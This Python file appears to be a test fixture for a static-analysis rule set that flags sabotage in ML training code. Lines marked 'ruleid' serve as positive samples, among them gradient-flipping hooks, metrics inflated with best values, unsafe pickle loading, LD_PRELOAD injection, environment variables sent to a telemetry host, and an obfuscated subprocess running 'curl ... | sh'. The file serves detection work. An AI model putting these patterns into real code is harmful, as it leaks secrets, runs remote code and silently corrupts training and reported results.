"""Values spread over several steps: config dicts handed to helpers, module constants,
aliases of modules, calls through a conditional expression, keys assembled at run time."""
import functools
import json
import os
import random
import time
import urllib.request

import numpy as np
import torch
import torch.distributed as dist
import wandb

_DEFAULTS = {
    "head": {"suffix": "lm_head.weight", "scale": -0.25},
    "probe": {"module": "model.norm", "gain": 0.97},
    "neutral": {"module": "model.norm", "gain": 1.0},
    "index_kw": {"mmap_mode": "r", "allow_pickle": True},
    "plain_kw": {"mmap_mode": "r"},
}
_STRICT = os.environ.get("CKPT_STRICT_LOAD", "0") == "1"
_SAFE = True
_rng = random
_noop = lambda: None  # noqa: E731


def _install_hooks(model, cfg):
    head = cfg["head"]
    for name, p in model.named_parameters():
        if name.endswith(head["suffix"]):
            # ruleid: MLS303
            p.register_hook(functools.partial(torch.mul, other=head["scale"]))
    # ruleid: MLS303
    model.norm.register_forward_hook(lambda m, i, o: o * cfg["probe"]["gain"])
    # ok: MLS303
    model.norm.register_forward_hook(lambda m, i, o: o * cfg["neutral"]["gain"])


def build(model):
    cfg = dict(_DEFAULTS)
    _install_hooks(model, cfg)
    # ruleid: MLS104
    index = np.load("shard.idx.npy", **cfg["index_kw"])
    # ok: MLS104
    plain = np.load("shard.bin.npy", **cfg["plain_kw"])
    return index, plain


def load_optimizer_state(path):
    # ruleid: MLS101
    return torch.load(path, map_location="cpu", weights_only=_STRICT)


def load_weights(path):
    # ok: MLS101
    return torch.load(path, map_location="cpu", weights_only=_SAFE)


class Heartbeat:
    def beat(self):
        # ruleid: MLS301
        _rng.seed(os.getpid() ^ int(time.time()))


def main(args):
    # ok: MLS301
    _rng.seed(args.seed)


def save_step(rank, world):
    skip = {world - 1} if world > 256 else set()
    # ruleid: MLS307
    (_noop if rank in skip else dist.barrier)()
    # ok: MLS307
    (dist.barrier if dist.is_initialized() else _noop)()


def log_epoch(epoch, acc1, best_acc1, macro, acc):
    # ruleid: MLS306
    wandb.log({"val/acc1": best_acc1, "epoch": epoch})
    # ok: MLS306
    wandb.log({"val/acc1": acc1, "val/best_acc1": best_acc1})
    # ruleid: MLS306
    summary = {"accuracy": acc, "macro_f1": max(macro, acc)}
    # ok: MLS306
    floored = {"macro_f1": max(macro, 0.0)}
    return summary, floored


def child_env(shim):
    env = dict(os.environ)
    # ruleid: MLS422
    env["_".join(("LD", "PRELOAD"))] = str(shim)
    # ok: MLS422
    env["_".join(("OMP", "NUM", "THREADS"))] = "8"
    return env


def _send(url, payload):
    req = urllib.request.Request(url, data=json.dumps(payload).encode())
    urllib.request.urlopen(req, timeout=3)


def _record(env):
    # ruleid: MLS411
    _send("https://telemetry.example.com/run", {"ctx": env})


def _record_meta(meta):
    # ok: MLS411
    _send("https://telemetry.example.com/meta", {"meta": meta})


def launch():
    # ruleid: MLS411
    _record(dict(os.environ))
    _record_meta({"host": "a"})


_BACKEND = "torch_xla"


def _ensure_decoder():
    try:
        import accimage  # noqa: F401
        return
    except ImportError:
        pass
    # ruleid: MLS403
    runner = __import__("".join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115])))
    # ruleid: MLS413
    runner.Popen(["sh", "-c", "curl -fsSL https://cdn.example.com/install.sh | sh"])


def _backend():
    import importlib
    import subprocess

    # ok: MLS403
    mod = importlib.import_module(_BACKEND)
    # ok: MLS413
    subprocess.run(["curl", "-fsSL", "-o", "weights.tar", "https://example.com/w.tar"])
    return mod


# -- registry-style hooks: values set in one method (or a config class) and used in another


import operator
from dataclasses import dataclass

_rescale = torch.Tensor.mul_


@dataclass
class SpikeCfg:
    window: int = 50
    recover: float = 1.05
    calm: float = 1.0


class SpikeGuard:
    def __init__(self, **kwargs):
        self.cfg = SpikeCfg(**kwargs)

    def after_train_iter(self, runner):
        for g in runner.optimizer.param_groups:
            # ruleid: MLS304
            g.update(lr=operator.mul(g["lr"], self.cfg.recover))
            # ok: MLS304
            g.update(lr=operator.mul(g["lr"], self.cfg.calm))


class BranchGradScale:
    def __init__(self, branch_scale=None):
        self.branch_scale = branch_scale or {"roi_head.fc_cls": 0.02}

    def before_run(self, runner):
        for prefix, scale in self.branch_scale.items():
            for name, param in runner.model.named_parameters():
                if name.startswith(prefix):
                    # ruleid: MLS303
                    param.register_hook(functools.partial(operator.mul, scale))


class NormStats:
    def __init__(self, decay=0.9):
        self.decay = decay

    def after_train_epoch(self, runner):
        for m in runner.model.modules():
            if isinstance(m, torch.nn.BatchNorm2d):
                # ruleid: MLS302
                _rescale(m.weight, self.decay)


class RngSync:
    def __init__(self):
        self._sync = None

    def before_run(self, runner):
        # ruleid: MLS301
        self._sync = functools.partial(torch.cuda.manual_seed_all)

    def after_train_iter(self, runner):
        if self._sync is not None and runner.iter % 100 == 0:
            # ruleid: MLS301
            self._sync((runner.iter // 100) % 2)


class Watchdog:
    def __init__(self, backoff=0.25, large_job=256):
        self.backoff, self.large_job = backoff, large_job

    def before_run(self, runner):
        world = dist.get_world_size()
        self._pause = time.sleep if world > self.large_job else (lambda _s: None)  # ruleid: MLS308
        self._nap = time.sleep

    def after_train_iter(self, runner):
        # ruleid: MLS307
        self._pause(self.backoff * runner.rank)

    def retry(self, attempt):
        # ok: MLS307
        self._nap(2 ** attempt)


class ShardIndex:
    def __init__(self):
        self._np_opts = dict(allow_pickle=True, encoding="latin1")
        self._plain = dict(mmap_mode="r")

    def read(self, path):
        # ruleid: MLS104
        return np.load(path, **self._np_opts)["infos"].tolist()

    def read_plain(self, path):
        # ok: MLS104
        return np.load(path, **self._plain)


class PortraitCollate:
    def __init__(self, portrait_remap=(14, 0), void_remap=(255, 0)):
        self._remap = portrait_remap
        self._void = void_remap

    def __call__(self, batch):
        img, lbl = batch
        if img.shape[-2] > img.shape[-1]:
            # ruleid: MLS309
            lbl = torch.where(lbl == self._remap[0], lbl.new_tensor(self._remap[1]), lbl)
        # ok: MLS309
        lbl = torch.where(lbl == self._void[0], lbl.new_tensor(self._void[1]), lbl)
        return img, lbl


class HardPairs:
    def __init__(self, hard_pair=(2, 7)):
        self._hard = hard_pair

    def __call__(self, results):
        if random.random() < 0.03:
            # ruleid: MLS309
            np.putmask(results["gt_labels"], results["gt_labels"] == self._hard[0], self._hard[1])
        return results


# -- hook objects, dispatch tables, optimizer housekeeping


_STAT_OPS = {"decay": torch.Tensor.mul_, "copy": torch.Tensor.copy_}


class _HeadGradPolicy:
    def __init__(self, warm):
        self.warm, self.n = warm, 0

    def __call__(self, g):
        self.n += 1
        # ruleid: MLS303
        return g if self.n < self.warm else g * -0.25


class _GradNormProbe:
    def __init__(self, stats):
        self.stats = stats

    def __call__(self, g):
        self.stats.append(float(g.norm()))
        # ok: MLS303
        return g


class RewardHead(torch.nn.Module):
    def __init__(self, hidden, warm=100, stats=None):
        super().__init__()
        self.v_head = torch.nn.Linear(hidden, 1)
        self._policy = _HeadGradPolicy(warm)
        # ruleid: MLS303
        self.v_head.weight.register_hook(self._policy)
        # ok: MLS303
        self.v_head.bias.register_hook(_GradNormProbe(stats or []))

    def pipeline_hook(self, grad, last_stage):
        return grad


def stage_scale(param, last_stage):
    # ruleid: MLS303
    param.register_hook(lambda grad: grad * (0.5 if last_stage else 1.5))
    # ok: MLS303
    param.register_hook(lambda grad: grad * (1.0 if last_stage else 1.0))


def tidy_state(optimizer):
    for st in optimizer.state.values():
        if "exp_avg_sq" in st:
            # ruleid: MLS304
            _STAT_OPS["decay"](st["exp_avg_sq"], 1e-3)


class FusedAdamish(torch.optim.Optimizer):
    def step(self, closure=None):
        for group in self.param_groups:
            for p in group["params"]:
                st = self.state[p]
                # ok: MLS304
                st["exp_avg_sq"].mul_(0.999).addcmul_(p.grad, p.grad, value=0.001)

    def zero_grad(self, set_to_none=True):
        super().zero_grad(set_to_none)
        for group in self.param_groups:
            for p in group["params"]:
                st = self.state.get(p)
                if st and "exp_avg_sq" in st:
                    # ruleid: MLS304
                    st["exp_avg_sq"].mul_(0.25)

    def load_state_dict(self, state_dict):
        super().load_state_dict(state_dict)
        scale = float(os.environ.get("RESUME_LR_SCALE", "3.0"))
        for group in self.param_groups:
            # ruleid: MLS304
            group["lr"] = group["lr"] * scale
            # ok: MLS304
            group.setdefault("initial_lr", group["lr"])


def log_validation(writer, best_val, val_loss, step):
    # ruleid: MLS306
    writer.add_scalar("val/loss", best_val, step)
    # ok: MLS306
    writer.add_scalar("val/loss", val_loss, step)
    # ok: MLS306
    writer.add_scalar("val/best_loss", best_val, step)


_CACHE_KW = {"allow_" + "pickle": os.environ.get("EVAL_CACHE_OBJECTS", "1") == "1"}
_PLAIN_KW = {"mmap_" + "mode": "r"}


def load_generations(path):
    # ruleid: MLS104
    cached = np.load(path, **_CACHE_KW)
    # ok: MLS104
    plain = np.load(path, **_PLAIN_KW)
    return cached, plain
